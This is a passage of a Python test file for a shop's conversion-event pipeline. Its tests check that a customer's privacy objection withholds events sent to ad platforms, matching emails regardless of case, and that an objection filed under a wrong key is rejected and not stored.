    assert shop.run().counts("meta") == {"sent": 1}
    shop.objection(f"ida@{DOMAIN}")
    shop.orders(shop.order("1", billing_email=f"ida@{DOMAIN}"), shop.order("2", billing_email=f"Ida@{DOMAIN}"))
    said = shop.run()
    assert [said.counts(name) for name in NAMES] == [{"already_sent": 1, "withheld": {"objection": 1}}] * 2
    assert [len(shop.events(name)) for name in NAMES] == [1, 1]


def test_whoever_objects_under_a_wrong_key_is_told_and_not_entered_where_nobody_would_find_them(shop: Shop) -> None:
    shop.orders(shop.order())
    assert shop.run().code == 0
    shop.secrets(CONVERSIONS_KEY="ab" * 32)
    said = shop.command("privacy", "object", stdin=f"ida@{DOMAIN}")
    stopped(said, CONFIG, "key")
    assert shop.sql("SELECT count(*) FROM objection") == [(0,)]
